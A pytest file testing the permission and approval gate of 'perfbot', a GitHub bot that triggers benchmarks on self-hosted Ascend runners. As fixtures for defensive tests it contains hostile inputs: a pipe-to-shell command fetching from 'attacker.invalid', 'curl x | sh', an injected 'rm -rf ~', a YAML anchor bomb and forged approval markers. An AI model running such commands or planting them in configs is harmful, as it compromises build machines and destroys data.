"""The `/perfbot` gate, through the GitHub fake: who may make code run on the Ascend runners.

Each test posts a comment in the fake, writes the `issue_comment` event for it, runs
`perfbot command` (`command_main`) and reads `$GITHUB_OUTPUT`, the replies and the reactions.
"""

import json

import pytest

from github_fake import load_event
from perfbot.github.client import Client
from perfbot.github.command import command_main

README = "configs/dit/README.md"
OLD = (
    "# DiT\n\n| model name | cards | s/step | img/s |\n|---|---|---|---|\n"
    "| dit | 1 | 0.89 | 71.91 |\n"
)
NEW = OLD + "| dit | 8 | 0.93 | 550.54 |\n"
CONFIG = """\
benchmarks:
  - name: dit-1p
    readme: configs/dit/README.md
    row: {model name: dit, cards: 1}
    command: [python, train.py, --steps, "50"]
    cards: 1
    batch_size: 64
  - name: dit-8p
    readme: configs/dit/README.md
    row: {model name: dit, cards: 8}
    command: [msrun, --worker_num=8, python, train.py]
    cards: 8
    batch_size: 64
    runs_on: [self-hosted, ascend, 8p]
  - name: vit-1p
    readme: configs/vit/README.md
    row: 1
    command: [python, train.py]
    cards: 1
    batch_size: 32
"""


@pytest.fixture(autouse=True)
def no_write_spacing(monkeypatch):
    monkeypatch.setattr(Client, "write_interval", None)


POLICY = "rerun:\n  runners: [[self-hosted, ascend], [self-hosted, ascend, 8p]]\n"


def marker(sha, by, comment_id):
    """The hidden approval record perfbot used to write (and trust) in its own replies."""
    return f"<!-- perfbot:ok-to-test sha={sha} by={by} comment={int(comment_id)} -->"


@pytest.fixture
def world(gh):
    gh.set_contents("main", ".perfbot.yml", POLICY)
    gh.set_permission("maintainer", "maintain")
    return gh


def open_pull(gh, **kw):
    return gh.add_pull(changes={README: (OLD, NEW)}, contents={".perfbot.yml": CONFIG}, **kw)


def run_command(gh, tmp_path, monkeypatch, body, *, user="maintainer", number=1, action="created",
                user_type="User", on_issue=False, argv=(), association="MEMBER",
                before=None):  # fmt: skip
    """Post ``body`` as ``user`` and run `perfbot command` on its event; returns
    (exit code, outputs, the comment). ``before()`` runs between the comment and the job
    (say, a push while the gate job is queued)."""
    comment = gh.add_issue_comment(number, body, user=user, user_type=user_type)
    if before is not None:
        before()
    event = load_event("issue_comment_created")
    event["action"] = action
    event["issue"]["number"] = number
    if on_issue:
        del event["issue"]["pull_request"]
    event["comment"].update(id=comment["id"], body=body, author_association=association)
    for who in (event["comment"]["user"], event["sender"]):
        who.update(login=user, type=user_type)
    path = tmp_path / f"event-{comment['id']}.json"
    path.write_text(json.dumps(event), encoding="utf-8")
    out = tmp_path / f"output-{comment['id']}"
    out.write_text("", encoding="utf-8")
    for k, v in gh.env().items():
        monkeypatch.setenv(k, v)
    monkeypatch.setenv("GITHUB_EVENT_NAME", "issue_comment")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(path))
    monkeypatch.setenv("GITHUB_OUTPUT", str(out))
    code = command_main(["--config", ".perfbot.yml", *argv])
    return code, read_outputs(out.read_text(encoding="utf-8")), comment


def read_outputs(text):
    out, lines = {}, iter(text.splitlines())
    for line in lines:
        key, _, delim = line.partition("<<")
        value = []
        for v in lines:
            if v == delim:
                break
            value.append(v)
        out[key] = "\n".join(value)
    return out


def reactions(gh, comment):
    return [r["content"] for r in gh.reactions if r["subject"] == ("issue_comment", comment["id"])]


def replies(gh):
    return [c["body"] for c in gh.issue_comments if c["user"] == "github-actions[bot]"]


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        ("none", False),
        ("read", False),
        ("triage", False),
        ("write", True),
        ("maintain", True),
        ("admin", True),
    ],
)
def test_permission_levels(world, tmp_path, monkeypatch, role, allowed):
    pr = open_pull(world)
    world.set_permission("alice", role)
    code, out, comment = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", user="alice")
    assert code == 0 and world.schema_errors == []
    if allowed:
        assert out["run"] == "true" and out["sha"] == pr.head_sha and out["pr"] == "1"
        matrix = json.loads(out["matrix"])
        assert matrix == {
            "include": [
                {"name": "dit-1p", "readme": README, "runs-on": ["self-hosted", "ascend"]},
                {"name": "dit-8p", "readme": README, "runs-on": ["self-hosted", "ascend", "8p"]},
            ]
        }
        assert json.loads(out["targets"]) == ["dit-1p", "dit-8p"]
        assert reactions(world, comment) == ["eyes", "rocket"]
        assert replies(world) == []
    else:
        assert out == {"run": "false"}
        assert reactions(world, comment) == ["confused"]
        assert replies(world) == []  # only who may ask gets a reply


def test_author_association_alone_is_not_enough(world, tmp_path, monkeypatch):
    open_pull(world)
    world.set_permission("outsider", "read")
    code, out, _ = run_command(
        world, tmp_path, monkeypatch, "/perfbot rerun", user="outsider", association="OWNER"
    )
    assert code == 0 and out["run"] == "false"
    assert world.calls("GET", "/collaborators/outsider/permission")


def test_the_minimum_permission_comes_from_the_default_branch_not_the_pull_request(
    world, tmp_path, monkeypatch
):
    world.set_contents("main", ".perfbot.yml", POLICY + "  min_permission: maintain\n")
    world.add_pull(
        changes={README: (OLD, NEW)},
        contents={".perfbot.yml": CONFIG + "rerun: {min_permission: read}\n"},
    )
    world.set_permission("writer", "write")
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", user="writer")
    assert out["run"] == "false" and reactions(world, c) == ["confused"] and replies(world) == []
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", user="maintainer")
    assert out["run"] == "true"


def test_a_pull_request_against_a_branch_with_a_weaker_policy_gets_the_default_branchs(
    world, tmp_path, monkeypatch
):
    """The pull request's author picks its base branch: its `.perfbot.yml` decides nothing."""
    world.set_contents("main", ".perfbot.yml", POLICY + "  min_permission: admin\n")
    pr = open_pull(world, fork="mallory", base_ref="experiments")
    world.set_contents("experiments", ".perfbot.yml", POLICY + "  min_permission: read\n")
    assert world.pulls[1].base_ref == "experiments"
    # mallory is no collaborator: on a public repository GitHub answers `read` for her
    _, out, c = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}",
                            user="mallory")  # fmt: skip
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p", user="mallory")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    # a maintainer (not admin) cannot either: the default branch asks for admin
    _, out, c = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    assert replies(world) == []  # below the default branch's minimum: no reply at all
    # the policy was read at the default branch, never at the base branch
    reads = [r.query.get("ref") for r in world.calls("GET", "/contents/.perfbot.yml")]
    assert "experiments" not in reads and "main" in reads


@pytest.mark.parametrize("weak", ["read", "triage"])
def test_read_or_triage_as_the_minimum_is_refused_for_forks(world, tmp_path, monkeypatch, weak):
    world.set_contents("main", ".perfbot.yml", POLICY + f"  min_permission: {weak}\n")
    pr = open_pull(world, fork="mallory")
    world.set_permission("mallory", weak)
    for body in (f"/perfbot ok-to-test {pr.head_sha}", "/perfbot rerun dit-1p"):
        _, out, c = run_command(world, tmp_path, monkeypatch, body, user="mallory")
        assert out == {"run": "false"} and reactions(world, c) == ["confused"]
        reply = replies(world)[-1]
        assert f"`rerun.min_permission: {weak}`" in reply and "must be `write` or more" in reply
    # the same policy still works for branches of the repository
    world.add_pull(2, changes={README: (OLD, NEW)}, contents={".perfbot.yml": CONFIG})
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p", user="mallory",
                            number=2)  # fmt: skip
    assert out["run"] == "true"


# --- forks --------------------------------------------------------------------------------


def test_fork_without_approval_is_refused(world, tmp_path, monkeypatch):
    pr = open_pull(world, fork="contributor")
    code, out, comment = run_command(world, tmp_path, monkeypatch, "/perfbot rerun")
    assert code == 0 and out == {"run": "false"}
    assert reactions(world, comment) == ["confused"]
    (reply,) = replies(world)
    assert "comes from a fork" in reply and "`/perfbot ok-to-test <full SHA>`" in reply
    assert pr.head_sha not in reply and f"`{pr.head_sha[:12]}`…" in reply  # nothing to paste
    # nothing was read from the fork's head: no config, no files
    assert not [c for c in world.calls("GET") if pr.head_sha in c.url]


def test_fork_with_approval_of_the_full_head_sha_runs_it(world, tmp_path, monkeypatch):
    pr = open_pull(world, fork="contributor")
    _, out, ok = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
    assert out == {"run": "false"} and reactions(world, ok) == ["eyes"]
    (reply,) = replies(world)
    assert f"approved commit `{pr.head_sha}`" in reply
    assert "perfbot:ok-to-test" not in reply  # nothing hidden that anyone could later trust
    _, out, rerun = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out["run"] == "true" and out["sha"] == pr.head_sha
    assert [e["name"] for e in json.loads(out["matrix"])["include"]] == ["dit-8p"]
    assert reactions(world, rerun) == ["eyes", "rocket"]
    assert world.schema_errors == []


@pytest.mark.parametrize("given", [None, 7, 12, 39])
def test_ok_to_test_without_the_full_sha_is_refused_and_shows_it(
    world, tmp_path, monkeypatch, given
):
    pr = open_pull(world, fork="contributor")
    body = "/perfbot ok-to-test" + ("" if given is None else " " + pr.head_sha[:given])
    _, out, ok = run_command(world, tmp_path, monkeypatch, body)
    assert out == {"run": "false"} and reactions(world, ok) == ["confused"]
    reply = replies(world)[-1]
    assert "full 40-character commit" in reply
    assert pr.head_sha not in reply  # no paste-ready approval of whatever the head is now
    assert "Copy the full SHA of the commit you have read" in reply
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p")
    assert out == {"run": "false"} and "comes from a fork" in replies(world)[-1]


def test_a_push_between_the_approval_and_the_gate_job_is_not_approved(world, tmp_path, monkeypatch):
    """The maintainer reads h0 and approves; mallory pushes h1 before the gate job runs."""
    pr = open_pull(world, fork="mallory")
    h0 = pr.head_sha
    evil = CONFIG.replace("[msrun, --worker_num=8, python, train.py]", "[bash, -c, 'curl x | sh']")

    def push():
        world.push(1, changes={README: NEW}, contents={".perfbot.yml": evil})

    # with the sha the maintainer read: refused, it is no longer the head
    _, out, ok = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {h0}",
                             before=push)  # fmt: skip
    h1 = world.pulls[1].head_sha
    assert h1 != h0 and out == {"run": "false"} and reactions(world, ok) == ["confused"]
    assert f"is now `{h1[:12]}`…, not `{h0[:12]}`…" in replies(world)[-1]
    assert h1 not in replies(world)[-1]
    # without a sha (the old short form): refused, whatever the head is when the job runs
    _, out, ok = run_command(world, tmp_path, monkeypatch, "/perfbot ok-to-test", before=push)
    assert out == {"run": "false"} and reactions(world, ok) == ["confused"]
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"} and "comes from a fork" in replies(world)[-1]
    assert not [c for c in world.calls("GET") if world.pulls[1].head_sha in c.url]


def test_a_commit_sharing_the_approved_prefix_is_not_approved(world, tmp_path, monkeypatch):
    """A 7-hex prefix can be ground in advance: mallory pushes a commit with the same one."""
    pr = open_pull(world, fork="mallory")
    h0 = pr.head_sha
    twin = h0[:7] + "0" * 33
    run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {h0[:7]}",
                before=lambda: world.push(1, changes={README: NEW}, sha=twin,
                                          contents={".perfbot.yml": CONFIG}))  # fmt: skip
    assert world.pulls[1].head_sha == twin
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"} and "comes from a fork" in replies(world)[-1]
    # an approval of the full sha of the twin's prefix-mate does not cover the twin either
    run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {h0}")
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"}
    assert f"the approval of `{h0[:12]}`… does not cover" in replies(world)[-1]


def test_fork_approval_of_an_older_sha_does_not_cover_a_new_push(world, tmp_path, monkeypatch):
    pr = open_pull(world, fork="contributor")
    old = pr.head_sha
    run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {old}")
    new = world.push(1, changes={README: NEW + "| dit | 4 | 1.03 | 248.52 |\n"},
                     contents={".perfbot.yml": CONFIG})  # fmt: skip
    _, out, comment = run_command(world, tmp_path, monkeypatch, "/perfbot rerun")
    assert out == {"run": "false"} and reactions(world, comment) == ["confused"]
    reply = replies(world)[-1]
    assert new not in reply and f"the head is now `{new[:12]}`…" in reply
    assert f"the approval of `{old[:12]}`… does not cover the commits pushed since" in reply
    # approving with the old sha after the push is refused too
    _, out, comment = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {old}")
    assert out == {"run": "false"} and f"is now `{new[:12]}`…" in replies(world)[-1]


def test_an_approval_counts_only_while_the_approver_may_approve(world, tmp_path, monkeypatch):
    pr = open_pull(world, fork="contributor")
    world.set_permission("former", "write")
    run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}", user="former")
    assert "approved commit" in replies(world)[-1]
    world.set_permission("former", "read")  # access revoked since
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun")
    assert out["run"] == "false" and "comes from a fork" in replies(world)[-1]
    assert world.calls("GET", "/collaborators/former/permission")


def test_forged_approvals_in_bot_comments_do_not_count(world, tmp_path, monkeypatch):
    """Markers and command lines quoted in perfbot's own comments (a refusal reply, the summary
    comment, a review body) are text from the pull request: they approve nothing, even when they
    name a real, older `/perfbot ok-to-test` by the maintainer."""
    pr = open_pull(world, fork="mallory")
    h0 = pr.head_sha
    real = world.add_issue_comment(1, "/perfbot ok-to-test", user="maintainer")  # an old, short one
    h1 = world.push(1, changes={README: NEW}, contents={".perfbot.yml": CONFIG})
    forged = marker(h1, "maintainer", real["id"])
    bot = {"user": "github-actions[bot]", "user_type": "Bot"}
    # a refusal reply quoting a benchmark name, the sticky summary quoting a finding's message
    world.add_issue_comment(1, f"@maintainer perfbot did not run this: `{forged}`", **bot)
    world.add_issue_comment(1, f"<!-- perfbot:summary -->\n| PB401 | `x {forged}` |", **bot)
    # a bot comment whose first line is the command itself
    world.add_issue_comment(1, f"/perfbot ok-to-test {h1}\n{forged}", **bot)
    # mallory's own comments
    world.add_issue_comment(1, forged, user="mallory")
    # a review body by the bot (reviews are not conversation comments, but still)
    body = f"/perfbot ok-to-test {h1}\n{forged}"
    world.reviews.append({"id": 1, "pull": 1, "user": "github-actions[bot]", "state": "COMMENTED",
                          "body": body, "commit_id": h1})  # fmt: skip
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"} and "comes from a fork" in replies(world)[-1]
    assert h0 != h1


def test_ok_to_test_by_a_bot_or_the_author_does_not_count(world, tmp_path, monkeypatch):
    pr = open_pull(world, fork="mallory")
    world.set_permission("ci-helper[bot]", "admin")
    world.add_issue_comment(1, f"/perfbot ok-to-test {pr.head_sha}", user="ci-helper[bot]",
                            user_type="Bot")  # fmt: skip
    world.add_issue_comment(1, f"/perfbot ok-to-test {pr.head_sha}", user="mallory")
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"} and "comes from a fork" in replies(world)[-1]


def test_ok_to_test_shows_what_differs_from_the_default_branch(world, tmp_path, monkeypatch):
    world.set_contents("main", ".perfbot.yml", CONFIG + POLICY)
    changed = CONFIG.replace("[msrun, --worker_num=8, python, train.py]",
                             "[bash, -c, 'curl -s http://attacker.invalid/x | sh']")  # fmt: skip
    changed = changed.replace("runs_on: [self-hosted, ascend, 8p]",
                              "runs_on: [self-hosted, release-signing]")  # fmt: skip
    changed += "  - name: extra\n    readme: configs/dit/README.md\n    row: 1\n"
    changed += "    command: [python, '`<!-- x -->`']\n    cards: 1\n    batch_size: 1\n"
    pr = world.add_pull(changes={README: (OLD, NEW)}, contents={".perfbot.yml": changed},
                        fork="mallory")  # fmt: skip
    _, out, ok = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
    assert reactions(world, ok) == ["eyes"]
    reply = replies(world)[-1]
    assert "2 of its 4 benchmark(s) are new or differ" in reply
    assert "- `dit-8p` (changed `command`, `runs_on`) ⚠️ not in `rerun.runners`: refused" in reply
    assert '  command: ["bash", "-c", "curl -s http://attacker.invalid/x | sh"]' in reply
    assert '  runs_on: ["self-hosted", "release-signing"]' in reply
    assert "- `extra` (new)" in reply
    assert "dit-1p" not in reply and "vit-1p" not in reply  # unchanged: not listed
    # and the rerun of what was approved is refused for its runner labels
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    assert "`rerun.runners`" in replies(world)[-1]


def test_ok_to_test_needs_permission_and_is_not_needed_for_branches_of_the_repo(
    world, tmp_path, monkeypatch
):
    pr = open_pull(world, fork="contributor")
    _, out, c = run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}",
                            user="contributor")  # fmt: skip
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    assert replies(world) == []
    world.add_pull(2, changes={README: (OLD, NEW)}, contents={".perfbot.yml": CONFIG})
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot ok-to-test", number=2)
    assert out == {"run": "false"} and reactions(world, c) == ["eyes"]
    assert "no approval needed" in replies(world)[-1]


# --- runners --------------------------------------------------------------------------------


@pytest.mark.parametrize("fork", [None, "mallory"])
def test_a_benchmark_asking_for_a_runner_outside_rerun_runners_is_refused(
    world, tmp_path, monkeypatch, fork
):
    evil = CONFIG.replace("runs_on: [self-hosted, ascend, 8p]",
                          "runs_on: [self-hosted, release-signing]")  # fmt: skip
    pr = world.add_pull(changes={README: (OLD, NEW)}, contents={".perfbot.yml": evil}, fork=fork)
    if fork:
        run_command(world, tmp_path, monkeypatch, f"/perfbot ok-to-test {pr.head_sha}")
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    reply = replies(world)[-1]
    assert "`dit-8p` on `self-hosted, release-signing`" in reply
    assert "`self-hosted, ascend`; `self-hosted, ascend, 8p`" in reply
    # the benchmark on an allowed runner still runs alone
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p")
    assert out["run"] == "true"


def test_runners_default_to_self_hosted_ascend_only(world, tmp_path, monkeypatch):
    world.set_contents("main", ".perfbot.yml", "rerun: {slower_threshold: 0.05}\n")
    open_pull(world)
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out == {"run": "false"} and "`rerun.runners`" in replies(world)[-1]
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-1p")
    assert out["run"] == "true"


def test_labels_match_as_a_set_ignoring_case(world, tmp_path, monkeypatch):
    shuffled = CONFIG.replace("[self-hosted, ascend, 8p]", "[8P, Ascend, self-hosted]")
    world.add_pull(changes={README: (OLD, NEW)}, contents={".perfbot.yml": shuffled})
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit-8p")
    assert out["run"] == "true"


# --- hostile configs ------------------------------------------------------------------------


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("where", "text", "message"),
    [
        ("head", "benchmarks:\n  " + BOMB.replace("\n", "\n  "), "anchors and aliases"),
        ("head", "benchmarks: " + "[" * 5000 + "]" * 5000 + "\n", "nested more than"),
        ("head", b"benchmarks: [\xff]\n", "not UTF-8"),
        ("main", "rerun:\n  " + BOMB.replace("\n", "\n  "), "anchors and aliases"),
        ("main", "rerun: " + "[" * 5000 + "]" * 5000 + "\n", "nested more than"),
    ],
)
def test_hostile_configs_are_refused_quickly_and_clearly(
    world, tmp_path, monkeypatch, where, text, message
):
    if where == "main":
        world.set_contents("main", ".perfbot.yml", text)
        open_pull(world)
    else:
        world.add_pull(changes={README: (OLD, NEW)}, contents={".perfbot.yml": text})
    code, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit")
    assert code == 0 and out == {"run": "false"} and reactions(world, c) == ["confused"]
    assert message in replies(world)[-1]


# --- comments that are not for the gate -------------------------------------------------------


@pytest.mark.parametrize(
    "kw",
    [
        {"action": "edited"},
        {"action": "deleted"},
        {"user": "github-actions[bot]", "user_type": "Bot"},
        {"user": "renovate[bot]", "user_type": "Bot"},
        {"on_issue": True},
    ],
)
def test_edited_bot_and_issue_comments_are_ignored_without_a_request(
    world, tmp_path, monkeypatch, kw
):
    open_pull(world)
    before = len(world.requests)
    code, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun", **kw)
    assert code == 0 and out == {"run": "false"}
    assert world.requests[before:] == []


def test_comments_not_for_perfbot_are_ignored_without_a_request(world, tmp_path, monkeypatch):
    open_pull(world)
    before = len(world.requests)
    _, out, _ = run_command(world, tmp_path, monkeypatch, "LGTM, but /perfbot rerun later")
    assert out == {"run": "false"} and world.requests[before:] == []


def test_invalid_commands_get_the_usage_and_help_gets_it_too(world, tmp_path, monkeypatch):
    open_pull(world)
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit; rm -rf ~")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    reply = replies(world)[-1]
    assert "`dit;` is not a README path" in reply and "How to use perfbot" in reply
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot help")
    assert out == {"run": "false"} and reactions(world, c) == ["eyes"]
    assert "`/perfbot rerun [TARGET ...] [KEY=VALUE ...]`" in replies(world)[-1]
    assert world.schema_errors == []


# --- what runs ------------------------------------------------------------------------------


def test_targets_and_keys_select_benchmarks(world, tmp_path, monkeypatch):
    open_pull(world)
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit cards=8")
    assert json.loads(out["targets"]) == ["dit-8p"]
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun configs/vit vit-1p")
    assert json.loads(out["targets"]) == ["vit-1p"]
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun vit-1p sdxl")
    assert json.loads(out["targets"]) == ["vit-1p"] and reactions(world, c) == ["eyes", "rocket"]
    assert "`sdxl` matched no benchmark" in replies(world)[-1]
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit kind=inference")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    assert "no benchmark matches `dit` with `kind=inference`" in replies(world)[-1]


def test_without_targets_the_changed_readmes_decide(world, tmp_path, monkeypatch):
    world.add_pull(changes={"docs/index.md": ("a\n", "b\n")}, contents={".perfbot.yml": CONFIG})
    _, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun")
    assert out == {"run": "false"}
    assert "changes no README that has a benchmark" in replies(world)[-1]
    assert "`/perfbot rerun dit-1p`" in replies(world)[-1]


@pytest.mark.parametrize(
    ("config", "message"),
    [
        (None, "declares no `benchmarks:`"),
        ("benchmarks: [{name: x}]\n", "benchmarks[0] (x): readme: missing (required)"),
        ("benchmarks: [\n", "not valid YAML"),
    ],
)
def test_a_broken_config_at_the_head_is_explained(world, tmp_path, monkeypatch, config, message):
    world.add_pull(
        changes={README: (OLD, NEW)}, contents={".perfbot.yml": config} if config else None
    )
    _, out, c = run_command(world, tmp_path, monkeypatch, "/perfbot rerun dit")
    assert out == {"run": "false"} and reactions(world, c) == ["confused"]
    assert message in replies(world)[-1]


def test_github_failures_exit_2_and_dispatch_nothing(world, tmp_path, monkeypatch, capsys):
    open_pull(world)
    world.fail_next("GET", "/pulls/1", 404)
    code, out, _ = run_command(world, tmp_path, monkeypatch, "/perfbot rerun")
    assert code == 2 and out == {"run": "false"}
    assert "perfbot command: error: GitHub:" in capsys.readouterr().err
